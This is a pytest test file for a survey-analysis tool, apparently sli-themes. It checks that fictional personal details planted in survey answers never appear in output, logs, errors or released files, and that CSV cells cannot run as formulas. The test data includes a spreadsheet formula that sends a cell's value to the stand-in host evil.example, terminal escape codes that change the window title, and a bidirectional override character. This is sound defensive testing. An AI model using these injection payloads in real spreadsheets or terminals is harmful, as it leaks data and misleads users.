"""No word that could name somebody leaves the restricted side, whatever is run and whatever goes wrong."""

from __future__ import annotations

import csv
import io
import json
import logging
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from cli_builders import (
    ANSWERS,
    AUTHORITIES,
    CODEBOOK,
    COLUMNS,
    REGIONS,
    Ran,
    ToyVectors,
    csv_text,
    environment,
    in_process,
    write_study,
)
from released_files import content_of

RARE = ("Skerrowmere Tidal Board", "Tarn Reach", "Tidal board")
"""The only authority of its region and type."""
PLANTED = {
    "name": "Perpetua Quillfeather",
    "surname": "Quillfeather",
    "other person": "Barnabus Oxwhistle",
    "own authority": "Skerrowmere",
    "another authority": "Quistmoor",
    "region of the rare authority": "Tarn Reach",
    "e-mail": "p.quillfeather@skerrowmere.example",
    "e-mail of another": "hotline@fennick-larder.example",
    "mobile phone": "07700 900461",
    "phone": "(0191) 498 0273",
    "postcode": "SK9 4QZ",
    "address": "https://fennick-larder.example/a/B7x",
    "handle": "@quillfeatherP",
    "scheme": "Fennick Larder",
    "8-bit escape": "\x9b31m",
    "street": "Gossamer Wharf",
    "formula": "=HYPERLINK(",
    "formula's target": "evil.example",
    "title of a terminal": "OWNEDTITLE",
    "escape code": "\x1b[31m",
    "markup": "[bold red]",
    "left to right": "\u202e",
}
"""What stands in answers, and must be seen nowhere but in restricted/."""
TOLD = (
    "I am Perpetua Quillfeather of Skerrowmere and our budget was cut; write to p.quillfeather@skerrowmere.example.",
    "Ring Barnabus Oxwhistle on 07700 900461 about the money, or (0191) 498 0273 after six in the evening.",
    "Skerrowmere Tidal Board has no reserves left, and Tarn Reach has nobody else to ask for funding.",
    "We at SKERROWMERE work with the police and the health service on Gossamer Wharf, SK9 4QZ, every week.",
    "The Fennick Larder shows what partners can do, see https://fennick-larder.example/a/B7x or @quillfeatherP.",
    "Quistmoor publishes every report so that residents can see them, and we should all do the same.",
    '=HYPERLINK("http://evil.example/?x="&A1,"our budget and savings")',
    "Publish the [bold red]results[/bold red] for \x1b[31mresidents\x1b[0m \x1b]0;OWNEDTITLE\x07 to see, \x9b31mall.",
    "Please be \u202enepo\u202c about reports and publish them for the public to read.",
    "mr quillfeather told us that partners in health are missing, hotline@fennick-larder.example knows more.",
)


def planted_study(folder: Path) -> Path:
    """Write a study in which some answers, and the columns beside them, name people and places."""
    rows = []
    for number, answer in enumerate((*TOLD, *ANSWERS)):
        who = f"R{number:03}"
        if number < len(TOLD) and number not in {4, 5, 7, 8}:
            row = (who, "Perpetua Quillfeather", "p.quillfeather@skerrowmere.example", *RARE, "yes", answer)
        else:
            row = (who, "", "", AUTHORITIES[number], REGIONS[number % 2], "Valley council", "yes", answer)
        rows.append(row)
    return write_study(folder, rows=rows, more_authorities=[RARE])


def seen(text: str | bytes, planted: dict[str, str] = PLANTED) -> list[str]:
    """Return the kinds of planted strings that occur in a text, in any letter case."""
    content = text.encode() if isinstance(text, str) else text
    return [kind for kind, one in planted.items() if one.lower().encode() in content.lower()]


CONTROLS = {
    chr(number) for number in (*range(0x7F, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x1B)
}
"""What a terminal may obey."""


@pytest.fixture
def sli(monkeypatch, capsys) -> Callable[..., Ran]:
    """Return the command line in this process, without a model."""
    return in_process(monkeypatch, capsys)


@pytest.fixture
def logged() -> Iterator[io.StringIO]:
    """Return what any library logs, down to the last detail."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    root = logging.getLogger()
    level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    yield stream
    root.removeHandler(handler)
    root.setLevel(level)


@pytest.fixture
def study(tmp_path) -> Path:
    """Return the planted study."""
    return planted_study(tmp_path / "study")


def steps(study: Path) -> list[list[object]]:
    """Return every command that reads the study's answers."""
    new, coded = study.parent / "new", study.parent / "coded.csv"
    coded.write_text("answer_id,theme_id\nR000:q1,money\nR003:q1,\n", "utf-8")
    (study.parent / "book.yaml").write_text(CODEBOOK, "utf-8")
    return [
        ["init", new, "--answers", study / "responses.csv", "--population", study / "population.csv"],
        ["check", new],
        ["check", study],
        ["explore", study],
        ["code", study, "--probabilities"],
        ["codings", "import", study, coded, "--coder", "anna"],
        ["report", study],  # refused: the human codings are new
        ["code", study],
        ["explore", study, "--themes", "4", "--question", "q1"],
        ["report", study],
        ["clear", study, "--export", study / "restricted" / f"held-{len(list(study.rglob('*')))}.xlsx"],
        ["run", study],
    ]


@pytest.mark.parametrize("json_wanted", [False, True], ids=["for people", "for machines"])
def test_nothing_planted_is_printed_logged_or_released(sli, study: Path, logged, json_wanted: bool) -> None:
    """Output, errors, logs, file names, cache, draft codebooks and release hold none of the planted strings."""
    for arguments in steps(study):
        ran = sli(*arguments, *(["--json"] if json_wanted else []))
        assert ran.code in (0, 3), ran.said
        # A terminal runs no formula: its first characters may be shown, its target may not.
        assert set(seen(ran.said)) <= {"formula"}, (arguments, seen(ran.said))
        assert ran.out.isascii() or not set(ran.out) & CONTROLS
    assert seen(logged.getvalue()) == []
    supplied = {"responses.csv", "population.csv"}
    for path in sorted(study.parent.rglob("*")):
        name = path.relative_to(study.parent).as_posix()
        assert seen(name) == []
        if path.is_file() and path.name not in supplied and "restricted" not in path.parts:
            assert seen(content_of(path)) == [], name
    assert (study / "release" / "quotes.csv").stat().st_size > 500


def test_the_test_would_see_what_it_looks_for(sli, study: Path) -> None:
    """Each planted string stands in the answers, and the restricted side keeps the words as they were written."""
    assert seen((study / "responses.csv").read_bytes()) == list(PLANTED)
    assert sli("run", study).code == 0
    assert sli("explore", study).code == 0
    clusters = (study / "restricted" / "clusters-q1.csv").read_bytes()
    assert {"name", "own authority", "phone", "postcode", "e-mail"} <= set(seen(clusters))


def test_records_hold_no_word_of_an_answer(sli, study: Path) -> None:
    """Manifest, run record, attribution scheme, redaction log and what people decided hold numbers, ids and kinds."""
    words = {"words": "swallowed", "more": "nobody can plan", "whole": "charities, schools", **PLANTED}
    words.pop("region of the rare authority")  # the attribution scheme lists the regions of the population
    for arguments in steps(study):
        sli(*arguments)
    sli("code", study, "--probabilities")
    files = [study / "release" / "manifest.json", *(study / "decisions").glob("*.jsonl")]
    files += [study / "restricted" / name for name in ("run-record.json", "redaction-log.jsonl")]
    files += [study / "restricted" / "attribution-scheme.json", study / "restricted" / "matrix.csv"]
    files += [study / "restricted" / "probabilities.csv"]
    for file in files:
        assert seen(file.read_bytes(), words) == [], file.name


def test_no_cell_of_a_table_runs_in_a_spreadsheet(sli, study: Path) -> None:
    """In every csv file of a study a cell that begins like a formula has an apostrophe before it, or is a number."""
    assert sli("run", study).code == 0
    assert sli("explore", study).code == 0
    kept = 0
    for file in [*(study / "restricted").glob("*.csv"), *(study / "release").glob("*.csv")]:
        for row in csv.reader(io.StringIO(file.read_text("utf-8-sig"), newline="")):
            for cell in row:
                number = cell.lstrip("-").replace(".", "", 1).isdigit() or cell == "-"
                assert number or not cell.lstrip().startswith(("=", "+", "-", "@", "\t")), (file.name, cell)
                kept += cell.startswith("'=")
    assert kept


# ---- when something goes wrong


def broken_csv(study: Path) -> None:
    """Leave a quote open in the middle of the answers."""
    content = (study / "responses.csv").read_text("utf-8")
    (study / "responses.csv").write_text(
        content.replace('"I am Perpetua', '"I am "Perpetua', 1) + '"', "utf-8"
    )


def ragged_csv(study: Path) -> None:
    """Let an answer run over its cell, as when a comma was not quoted."""
    rows = [(*(["x"] * len(COLUMNS)), one) for one in TOLD]
    (study / "responses.csv").write_text(csv_text(COLUMNS, rows), "utf-8")


def no_header(study: Path) -> None:
    """Take the header away, so that answers stand where names of columns are looked for."""
    lines = (study / "responses.csv").read_text("utf-8").splitlines(keepends=True)
    (study / "responses.csv").write_text("".join(lines[1:]), "utf-8")


def shifted_columns(study: Path) -> None:
    """Name the column of the answers where something else is meant."""
    toml = (study / "study.toml").read_text("utf-8")
    for key in ("may_quote", "authority", "region", "authority_type"):
        toml = toml.replace(f'{key} = "{key}"', "")
    swapped = toml.replace("[columns]", '[columns]\nauthority = "q1"').replace(
        'column = "q1"', 'column = "role"'
    )
    (study / "study.toml").write_text(swapped.replace('"role"', '"may_quote"'), "utf-8")


def answers_as_authorities(study: Path) -> None:
    """Let the respondents' words stand in the columns of region, type and consent."""
    toml = (study / "study.toml").read_text("utf-8")
    toml = toml.replace('region = "region"', 'region = "q1"').replace('column = "q1"', 'column = "email"')
    (study / "study.toml").write_text(toml, "utf-8")


def wrong_encoding(study: Path) -> None:
    """Save the answers as something that claims to be UTF-8 and is not."""
    content = (study / "responses.csv").read_bytes().replace(b"Perpetua", b"Perp\xe9tua \xff\xfe")
    (study / "responses.csv").write_bytes(content)
    toml = (study / "study.toml").read_text("utf-8")
    (study / "study.toml").write_text(
        toml.replace("[columns]", 'encoding = "utf-8"\n\n[columns]', 1), "utf-8"
    )


def twice_the_same_id(study: Path) -> None:
    """Give two respondents one id."""
    content = (study / "responses.csv").read_text("utf-8").replace("\nR001,", "\nR000,")
    (study / "responses.csv").write_text(content, "utf-8")


def closed_question(study: Path) -> None:
    """Call the open question a closed one with options that nobody chose."""
    toml = (study / "study.toml").read_text("utf-8")
    toml = toml.replace('kind = "open"', 'kind = "closed"\noptions = ["Yes", "No"]')
    (study / "study.toml").write_text(toml + '\n[[questions]]\nid = "name"\ncolumn = "name"\n', "utf-8")
    toml = (study / "study.toml").read_text("utf-8").replace('name = "name"\nemail', "email")
    (study / "study.toml").write_text(toml, "utf-8")


FAULTS = [
    broken_csv,
    ragged_csv,
    no_header,
    shifted_columns,
    answers_as_authorities,
    wrong_encoding,
    twice_the_same_id,
    closed_question,
]
MARKS = {
    **PLANTED,
    "words of an answer": "swallowed",
    "more words": "ring barn",
    "even more": "awake at night",
}


@pytest.mark.parametrize("fault", FAULTS, ids=lambda fault: fault.__name__)
def test_faulty_input_is_told_without_a_word_of_it(sli, study: Path, logged, fault) -> None:
    """Messages name files, rows, columns and ids; never what stands there."""
    fault(study)
    for arguments in (
        ["init", study.parent / "again", "--answers", study / "responses.csv"],
        ["check", study],
        ["check", study, "--json"],
        ["code", study],
        ["report", study],
        ["run", study, "--json"],
    ):
        ran = sli(*arguments)
        assert ran.code in (0, 2, 3), ran.said
        if arguments[0] != "run" or ran.code:
            assert seen(ran.said, MARKS) == [], (arguments, seen(ran.said, MARKS))
    assert seen(logged.getvalue(), MARKS) == []


def test_faulty_codings_are_told_without_a_word_of_them(sli, study: Path) -> None:
    """A file of codings with answers where ids should be names rows, not cells."""
    file = study.parent / "coded.csv"
    rows = [(answer, answer) for answer in TOLD] + [("R001:q1", answer) for answer in TOLD]
    file.write_text(csv_text(("answer_id", "theme_id"), rows), "utf-8")
    ran = sli("codings", "import", study, file, "--coder", "anna")
    assert ran.code == 3
    assert seen(ran.said, MARKS) == []


def test_faulty_clearances_are_told_without_a_word_of_them(sli, study: Path, logged) -> None:
    """A sheet, and a file of decisions, with answers where ids, hashes and decisions should be name rows, not cells."""
    assert sli("run", study).code == 0
    from sli_themes.clearing.sheet import COLUMNS

    file = study.parent / "held.csv"
    names = [column.name for column in COLUMNS]
    file.write_text(csv_text(names, [[answer] * len(names) for answer in TOLD]), "utf-8")
    ran = sli("clear", study, "--import", file, "--reviewer", "anna")
    assert ran.code == 3
    assert seen(ran.said, MARKS) == []
    (study / "decisions").mkdir(exist_ok=True)
    event = {
        "at": "",
        "who": "anna",
        "kind": "clearance",
        "previous": "",
        "words": TOLD[0],
        "decision": TOLD[1],
    }
    (study / "decisions" / "anna.jsonl").write_text(json.dumps(event) + "\n", "utf-8")
    for arguments in (["report", study], ["clear", study, "--json"]):
        ran = sli(*arguments)
        assert ran.code == 3
        assert seen(ran.said, MARKS) == []
    assert seen(logged.getvalue(), MARKS) == []


PLACES = (
    "sli_themes.answers.reading.examine",
    "sli_themes.coding.coder.Coder.fit",
    "sli_themes.coding.coder.Coder.code",
    "sli_themes.counts.count",
    "sli_themes.quotes.choose_quotes",
    "sli_themes.anonymity.audit.audit_release",
)


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("json_wanted", [False, True], ids=["for people", "for machines"])
def test_a_bug_tells_where_but_not_what(sli, study: Path, logged, monkeypatch, place, json_wanted) -> None:
    """An error that nobody foresaw, with an answer in its message, cause and notes: exit code 1, no word of it."""

    def fail(*_: object, **__: object) -> None:
        warnings_of_a_library = TOLD[0]
        try:
            raise KeyError(TOLD[1])
        except KeyError as cause:
            error = ValueError(warnings_of_a_library)
            error.add_note(TOLD[2])
            raise error from cause

    monkeypatch.setattr(place, fail)
    ran = sli("run", study, *(["--json"] if json_wanted else []))
    assert ran.code == 1
    assert "A bug in sli-themes: ValueError" in ran.err
    assert "test_privacy.py" in ran.err
    assert seen(ran.said, MARKS) == []
    assert seen(logged.getvalue(), MARKS) == []
    if json_wanted:
        assert ran.out == ""


def test_a_warning_of_a_library_is_not_shown() -> None:
    """The program, as it is started, keeps warnings to itself: they may quote what a library was given."""
    started = (
        "import sys, warnings; from sli_themes.cli import app, main;"
        f"app.run = lambda _: warnings.warn({TOLD[0]!r});"
        "main()"
    )
    ran = subprocess.run(
        [sys.executable, "-c", started], env=environment(PYTHONWARNINGS=""), capture_output=True, timeout=60
    )
    assert (ran.returncode, ran.stdout, ran.stderr) == (0, b"", b"")


def test_ctrl_c_tells_nothing(sli, study: Path, monkeypatch) -> None:
    """A run that is stopped while it holds an answer says that it was stopped."""

    def stop(texts) -> None:
        raise KeyboardInterrupt(texts[0])

    monkeypatch.setattr(ToyVectors, "at_embedding", staticmethod(stop))
    ran = sli("run", study)
    assert ran.code == 130
    assert seen(ran.said, MARKS) == []


# ---- redact


def test_redact_prints_what_is_redacted_and_nothing_else(sli, tmp_path, study: Path) -> None:
    """The answers as lines of text: what comes out holds no e-mail, phone, postcode, authority or control character."""
    file = tmp_path / "notes.txt"
    file.write_text("\n".join(TOLD) + "\n", "utf-8")
    ran = sli("redact", file, "--population", study / "population.csv", "--json")
    assert ran.code == 0
    lines = [json.loads(line) for line in ran.out.splitlines()]
    assert len(lines) == len(TOLD)
    assert ran.err == ""
    assert set(ran.out) & CONTROLS == set()
    identities = {"name", "surname", "other person", "another authority", "postcode", "address", "handle"}
    identities |= {kind for kind in PLANTED if "phone" in kind or "e-mail" in kind}
    assert identities & set(seen(ran.out)) == set()
    for line, said in zip(lines, TOLD, strict=True):
        # Part of the name of an authority is not enough to replace it where nobody says whose text it is.
        assert line["held"] or seen(line["redacted"]) == [], said


def test_redact_of_a_file_that_cannot_be_read_says_no_word(sli, tmp_path) -> None:
    """A population that is not one is told by its name."""
    file = tmp_path / "notes.txt"
    file.write_text("\n".join(TOLD), "utf-8")
    ran = sli("redact", file, "--population", file)
    assert ran.code == 3
    assert seen(ran.said, MARKS) == []
